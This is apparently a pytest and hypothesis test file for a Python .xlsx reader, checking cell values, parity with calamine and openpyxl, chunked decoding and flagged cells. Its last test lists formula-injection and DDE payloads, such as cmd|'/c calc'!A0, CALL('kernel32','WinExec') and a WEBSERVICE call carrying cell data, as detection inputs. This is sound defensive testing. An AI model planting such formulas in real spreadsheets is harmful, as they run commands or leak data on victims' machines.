"""The values of an .xlsx, read by our own pass over its parts.

1. Whatever value a cell has, and however a program spells it, it is read as that value.
2. Where calamine reads the same file, it reads the same values at the same places; but where it is known to be wrong.
3. Workbooks written by openpyxl and XlsxWriter are read as openpyxl reads them.
4. A part is read the same in whatever pieces its text comes.
5. Cells written twice, of no known type, or with a text that the workbook lacks are named, and have no value.
6. Functions that reach out of the workbook are named.
"""

import warnings
from collections.abc import Mapping
from datetime import date, datetime, time, timedelta
from io import BytesIO
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook, SheetTypeEnum

from tests.support.unit_workbook import WRONG, damaged
from tests.xlsx.corpus import Odd, corpus
from tests.xlsx.corpus.package import MAIN, book, cells, packed, parts, sheet, small
from xlplan.errors import Unreadable
from xlplan.grid import SELF_CHECKS_TITLE, Grid, Position, column_letters
from xlplan.xlsx import odd
from xlplan.xlsx.decoding import decoded, xml_text
from xlplan.xlsx.package import CHUNK
from xlplan.xlsx.read import read_book
from xlplan.xlsx.values import duration, iso_moment, moment, number, spelled_out, text_of

Values = dict[Position, Any]
PLAIN, DAY, PERCENT, ELAPSED = range(4)  # the styles of the workbooks below
STYLES = f'<styleSheet xmlns="{MAIN}"><cellXfs>{"".join(f"<xf numFmtId={chr(34)}{n}{chr(34)}/>" for n in (0, 14, 10, 46))}</cellXfs></styleSheet>'  # noqa: E501


def filled(grid: Grid) -> Values:
    """The cells of a grid that hold something."""
    return {
        (grid.top + r, grid.left + c): value
        for r, row in enumerate(grid.rows)
        for c, value in enumerate(row)
        if value not in (None, "")
    }


def same(left: Values, right: Values) -> bool:
    """Whether both hold the same values of the same types."""
    return left == right and all(type(left[position]) is type(right[position]) for position in left)


def by_calamine(data: bytes) -> dict[str, Values]:
    workbook = CalamineWorkbook.from_filelike(BytesIO(data))
    sheets = {}
    for index, meta in enumerate(workbook.sheets_metadata):
        if meta.typ == SheetTypeEnum.WorkSheet and meta.name != SELF_CHECKS_TITLE:
            one = workbook.get_sheet_by_index(index)
            rows = one.to_python(skip_empty_area=True)
            top, left = one.start or (0, 0)
            sheets[meta.name] = {
                (top + r + 1, left + c + 1): value
                for r, row in enumerate(rows)
                for c, value in enumerate(row)
                if value != ""
            }
    return sheets


# 1: values and their spellings

SIGNS = st.characters(exclude_categories=["Cs", "Cc"], include_characters="\n\t")
TEXTS = st.one_of(
    st.text(SIGNS, min_size=1, max_size=12),
    st.sampled_from(
        [" lời ghi ", "a&b<c>\"'", "_x000D_", "_x0041_", "Tiến độ", "=1+1", "]]>", "😀", "0012", "\u00a0a"]
    ),
)
SERIALS = st.integers(1, 2_958_465)
VALUES = st.one_of(
    st.tuples(st.just("text"), TEXTS),
    st.tuples(st.just("number"), st.floats(allow_nan=False, allow_infinity=False)),
    st.tuples(st.just("number"), st.integers(-(10**6), 10**6)),
    st.tuples(st.just("truth"), st.booleans()),
    st.tuples(st.just("day"), SERIALS),
    st.tuples(st.just("percent"), st.integers(0, 100)),
    st.tuples(st.just("error"), st.sampled_from(["#N/A", "#REF!", "#SPILL!", "12"])),
    st.tuples(st.just("blank"), st.none()),
)


def escaped(text: str) -> str:
    text = text.replace("_x", "_x005F_x").replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return text.replace("\t", "&#9;").replace("\n", "&#10;")


def run(text: str, spelling: int) -> str:
    """The content of a string item."""
    kept = f'<t xml:space="preserve">{escaped(text)}</t>'
    match spelling % 4:
        case 0:
            return kept
        case 1:
            return f'<r><rPr><b/></rPr><t xml:space="preserve">{escaped(text[:2])}</t></r><r>{kept.replace(escaped(text), escaped(text[2:]), 1)}</r>'  # noqa: E501
        case 2:
            return f'{kept}<rPh sb="0" eb="1"><t>PH</t></rPh><phoneticPr fontId="1"/>'
        case _:
            raw = text.replace("_x", "_x005F_x").replace("]]>", "]]]]><![CDATA[>")
            return f"<t xml:space='preserve'><![CDATA[{raw}]]></t>"


def spelled(kind: str, value: Any, spelling: int, texts: list[str]) -> tuple[str, int, str, object]:
    """(type, style, content, the value as it is to be read) of a cell."""
    match kind:
        case "text" if spelling % 3 == 0:
            texts.append(run(value, spelling))
            return "s", PLAIN, f"<v>{len(texts) - 1}</v>", value
        case "text" if spelling % 3 == 1:
            return "inlineStr", PLAIN, f"<is>{run(value, spelling)}</is>", value
        case "text":
            return "str", PLAIN, f"<f>A1</f><v>{escaped(value)}</v>", value
        case "number":
            return ("n" if spelling % 2 else ""), PLAIN, f"<v>{value!r}</v>", float(value)
        case "truth":
            return "b", PLAIN, f"<v>{int(value)}</v>", value
        case "day":
            start = date(1899, 12, 30) if value >= 60 else date(1899, 12, 31)
            return "", DAY, f"<f>A1+1</f><v>{value}</v>", start + timedelta(days=value)
        case "percent":
            return "", PERCENT, f"<v>{value / 100}</v>", value / 100
        case "error":
            return "e", PLAIN, f"<v>{value}</v>", None
    return "", DAY, "", None


def tag(attributes: list[tuple[str, str]], spelling: int) -> str:
    """The attributes that are not empty, in some order and between some quotes."""
    written = [(name, value) for name, value in attributes if value]
    written = written[::-1] if spelling % 5 == 1 else written
    mark = "'" if spelling % 5 == 2 else '"'
    return "".join(f" {name}={mark}{value}{mark}" for name, value in written)


@st.composite
def sheets(draw: st.DrawFn) -> tuple[bytes, Values, dict[Position, str], set[Position]]:
    """A workbook of one sheet; its values, errors, and percentages."""
    texts: list[str] = []
    expected: Values = {}
    errors: dict[Position, str] = {}
    percent: set[Position] = set()
    rows = []
    prefix = draw(st.sampled_from(["", "x:"]))
    for row in range(1, draw(st.integers(1, 5)) + 1):
        line = []
        for column, (kind, value) in enumerate(draw(st.lists(VALUES, max_size=6)), start=1):
            spelling = draw(st.integers(0, 59))
            kind_text, style, content, read = spelled(kind, value, spelling, texts)
            address = f"{column_letters(column)}{row}" if spelling % 7 else ""
            attributes = tag([("r", address), ("s", str(style) if style else ""), ("t", kind_text)], spelling)
            line.append(f"<c{attributes}>{content}</c>" if content else f"<c{attributes}/>")
            if kind == "error":
                errors[row, column] = value
            elif read is not None and read != "":
                expected[row, column] = read
            if kind == "percent":
                percent.add((row, column))
        rows.append(f'<row r="{row}">{"".join(line)}</row>')
    xml = sheet("".join(rows))
    if prefix:
        xml = prefixed(xml, prefix)
    shared = f'<sst xmlns="{MAIN}">{"".join(f"<si>{text}</si>" for text in texts)}</sst>'
    return small(xml, styles=STYLES, shared=shared), expected, errors, percent


def prefixed(xml: str, prefix: str) -> str:
    """*xml* with *prefix* in its tags, but not in what CDATA sections hold."""
    pieces = xml.split("<![CDATA[")
    for index, piece in enumerate(pieces):
        inside, end, outside = piece.rpartition("]]>") if index else ("", "", piece)
        for name in ("worksheet", "sheetData", "row", "c", "v", "f", "is", "t", "r", "rPr", "b", "rPh", "phoneticPr"):
            for closing in ("</", "<"):
                for behind in (" ", ">", "/"):
                    outside = outside.replace(f"{closing}{name}{behind}", f"{closing}{prefix}{name}{behind}")
        pieces[index] = inside + end + outside
    return "<![CDATA[".join(pieces).replace("xmlns=", f"xmlns:{prefix[:-1]}=", 1)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(sheets())
def test_a_value_is_read_however_it_is_spelled(drawn: tuple[bytes, Values, dict[Position, str], set[Position]]) -> None:
    data, expected, errors, percent = drawn
    (grid,) = read_book(data, "x").grids
    assert same(filled(grid), expected)
    assert grid.facts.errors == errors
    assert grid.facts.percent == percent
    assert not grid.facts.odd


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("5", 5.0),
        (" 5 ", 5.0),
        ("+5", 5.0),
        (".5", 0.5),
        ("5.", 5.0),
        ("1E-5", 1e-05),
        ("-0", 0.0),
        *(
            (text, None)
            for text in ("", "1_0", "1,5", "INF", "nan", "1e999", "0x10", "١", "5 5", "--5", "e5", "9" * 400)
        ),
    ],
)
def test_numbers(text: str, value: float | None) -> None:
    assert number(text) == value
    (grid,) = read_book(cells(f'<row r="1"><c r="A1"><v>{text}</v></c></row>'), "x").grids
    assert (grid.at(1, 1) or None) == ((text or None) if value is None else value or None)


def test_serial_numbers() -> None:
    days = {1: date(1900, 1, 1), 59: date(1900, 2, 28), 61: date(1900, 3, 1), 44348: date(2021, 6, 1)}
    assert {serial: moment(float(serial), epoch_1904=False) for serial in days} == days
    assert moment(0.5, epoch_1904=False) == time(12)
    assert moment(44348.5, epoch_1904=False) == datetime.fromisoformat("2021-06-01T12:00")
    assert moment(0.0, epoch_1904=True) == time(0)
    assert moment(1.0, epoch_1904=True) == date(1904, 1, 2)
    assert [moment(serial, epoch_1904=False) for serial in (-1.0, 2_958_466.0, 1e300)] == [-1.0, 2_958_466.0, 1e300]
    assert moment(2_958_465.9999999999, epoch_1904=False) == 2_958_465.9999999999
    assert duration(1.5) == timedelta(days=1, hours=12)
    assert duration(1e300) == 1e300


def test_moments_in_iso() -> None:
    assert iso_moment("2021-06-01") == date(2021, 6, 1)
    assert iso_moment("2021-06-01T10:20:30Z") == datetime.fromisoformat("2021-06-01T10:20:30")
    assert iso_moment("10:20") == time(10, 20)
    assert [iso_moment(text) for text in ("2021-13-01", "x", "44348")] == ["2021-13-01", "x", "44348"]


def test_texts() -> None:
    assert spelled_out("a_x000D__x000d_b_xZZZZ__x005F_x0041_") == "a\r\rb_xZZZZ__x0041_"
    assert spelled_out("_xD83D__xDE00_ _xD83D_") == "😀 \ufffd"
    assert text_of('<t> a </t><r><t xml:space="preserve"> b</t></r><rPh sb="0" eb="1"><t>PH</t></rPh><t/>') == "a b"


# 2: beside calamine

WRONG_IN_CALAMINE = (
    "figure in CDATA",
    "cdata",
    "infinity",
    "date before time began",
    "one address twice",
    "shared string",
    "utf-16",
)


@pytest.fixture(scope="module")
def files(demo: Any) -> tuple[Odd, ...]:
    return tuple(corpus((demo / "so-gui-ve" / "10-2021" / "VP.xlsx").read_bytes()))


@pytest.mark.slow
def test_calamine_reads_the_same(files: tuple[Odd, ...], demo: Any) -> None:
    known = [(one.name, one.data) for one in files if not one.refusals and "far " not in one.name]
    known += [(path.name, path.read_bytes()) for path in demo.rglob("*.xlsx")]
    known.append(("three wrong cells", damaged(*WRONG)))
    compared = 0
    for name, data in known:
        try:
            ours = {grid.title: filled(grid) for grid in read_book(data, "x").grids}
            theirs = by_calamine(data)
        except (Unreadable, Exception):  # noqa: BLE001 - what either refuses is compared elsewhere
            continue
        compared += 1
        differing = [title for title in ours if not same(ours[title], theirs.get(title, {}))]
        assert not differing or any(part in name for part in WRONG_IN_CALAMINE), (name, differing)
    assert compared > 100


# 3: beside openpyxl


@settings(max_examples=60, deadline=None)
@given(
    st.dictionaries(
        st.tuples(st.integers(1, 9), st.integers(1, 30)),
        st.one_of(
            st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=9).filter(
                lambda text: not text.startswith(("=", "#"))
            ),
            st.floats(-1e15, 1e15).map(lambda value: round(value, 6)),
            st.booleans(),
            st.dates(date(1900, 3, 1), date(9999, 12, 31)),
        ),
        min_size=1,
        max_size=25,
    ),
    st.sampled_from(["openpyxl", "xlsxwriter"]),
)
def test_what_libraries_write_is_read_as_openpyxl_reads_it(values: Mapping[Position, Any], library: str) -> None:
    out = BytesIO()
    if library == "openpyxl":
        workbook = openpyxl.Workbook()
        for (row, column), value in values.items():
            workbook.active.cell(row, column, value)
        workbook.save(out)
    else:
        writer = xlsxwriter.Workbook(out, {"default_date_format": "yyyy-mm-dd"})
        page = writer.add_worksheet()
        for (row, column), value in values.items():
            (page.write_string if isinstance(value, str) else page.write)(row - 1, column - 1, value)
        writer.close()
    ours = filled(read_book(out.getvalue(), "x").grids[0])
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        lines = openpyxl.load_workbook(BytesIO(out.getvalue()), data_only=True).active.iter_rows()
    theirs = {(cell.row, cell.column): cell.value for line in lines for cell in line if cell.value is not None}
    assert {place: _comparable(value) for place, value in ours.items()} == {
        place: _comparable(value) for place, value in theirs.items()
    }


def _comparable(value: object) -> object:
    """Dates without their time, and text with the line ends of the sheet."""
    if isinstance(value, datetime):
        return value.date()
    return float(value) if isinstance(value, int) and not isinstance(value, bool) else value


# 4: pieces


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["<!-- - -->", "<![CDATA[<a>]]]>", "<?x y?>", "ộ", "😀", "a\r\nb", "\r", "<b/>", "]]", "-", "<"]
        ),
        max_size=9,
    ),
    st.integers(1, 7),
    st.sampled_from(["utf-8", "utf-16"]),
)
def test_pieces_change_nothing(pieces: list[str], size: int, encoding: str) -> None:
    part = ("<a>" + " " * 200 + "".join(pieces) + "</a>").encode(encoding)  # its first bytes are read at once
    whole = xml_text(part)
    assert "<!--" not in whole
    assert "".join(decoded(part[start : start + size] for start in range(0, len(part), size))) == whole


def test_a_long_sheet_is_read_piece_by_piece() -> None:
    rows = CHUNK // 12  # several pieces
    xml = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="C{n}"><v>1</v></c></row>' for n in range(1, rows))
    for text in (sheet(xml), prefixed(sheet(xml), "x:"), sheet(xml.replace(' r="A', ' s="0" r="A'))):
        (grid,) = read_book(small(text), "x").grids
        assert [grid.at(n, 1) for n in range(1, rows)] == [float(n) for n in range(1, rows)]
        assert {grid.at(n, 3) for n in range(1, rows)} == {1.0}


# 5, 6: what is named


def test_odd_cells_are_named_and_have_no_value() -> None:
    row = (
        '<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c><c r="C1" t="zz"><v>3</v></c>'
        '<c r="D1" t="b"><v>4</v></c><c r="E1" t="s"><v>-1</v></c><c r="F1"><v>6</v></c></row>'
    )
    (grid,) = read_book(cells(row), "x").grids
    assert grid.facts.odd == {(1, 1): odd.TWICE, (1, 3): odd.KIND, (1, 4): odd.TRUTH, (1, 5): odd.NO_TEXT}
    assert filled(grid) == {(1, 2): 2.0, (1, 6): 6.0}


FORMULAS = {
    '_xlfn.WEBSERVICE("http://example.org/?a="&amp;A1)': "WEBSERVICE",
    "webservice (A1)": "WEBSERVICE",
    'CALL("kernel32","WinExec")': "CALL",
    'DDE("soffice";"a";"b")': "DDE",
    "cmd|'/c calc'!A0": "DDE",
    'C&#65;LL("kernel32")': "CALL",
    'IF(A1,REGISTER.ID("a","b"),0)': "REGISTER.ID",
}
HARMLESS = ("RECALL(1)", "A1|B1", 'CONCATENATE("CALL",A1)', "MYCALL.CALLS(1)", "SUM(A1:A9)")


@pytest.mark.parametrize("formula", [*FORMULAS, *HARMLESS])
def test_formulas_that_reach_out_are_named(formula: str) -> None:
    name = FORMULAS.get(formula)
    text = f"<si><t>={formula}</t></si>"
    row = (
        f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c><c r="B1" t="str"><f>{formula}</f></c>'
        f'<c r="C1" t="s"><v>0</v></c><c r="D1" t="inlineStr"><is><t>={formula}</t></is></c></row>'
    )
    data = packed(
        parts(
            sheet(row),
            shared=f'<sst xmlns="{MAIN}">{text}</sst>',
            workbook=book('<sheet name="S" sheetId="1" r:id="r1"/>'),
        )
    )
    (grid,) = read_book(data, "x").grids
    assert grid.facts.calls == ({(1, column): name for column in range(1, 5)} if name else {})
